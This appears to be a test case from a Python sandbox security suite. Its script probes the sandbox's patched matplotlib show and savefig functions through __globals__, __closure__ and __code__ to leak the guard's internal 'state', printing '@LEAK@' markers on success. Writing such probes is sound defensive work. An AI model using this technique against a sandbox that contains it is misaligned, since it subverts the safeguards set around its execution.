# category: disclosure
# attack: the sandbox's own plt.show and Figure.savefig replacements, to reach the guard's state through their globals, closures and code
# profile: data_science
import matplotlib.pyplot as plt
import matplotlib.figure as mf
targets = [plt.show, mf.Figure.savefig, mf.Figure.show, plt.savefig]
for t in targets:
    for name in ("__globals__", "__closure__", "__code__", "__wrapped__",
                 "__defaults__", "__kwdefaults__", "__dict__", "__self__"):
        try:
            v = getattr(t, name)
        except (AttributeError, NameError) as e:
            continue
        if v is not None and name in ("__globals__", "__closure__", "__code__"):
            print("@LEAK@", name)
try:
    print(plt.show.__globals__["state"])
    print("@LEAK@")
except Exception as e:
    print(type(e).__name__)
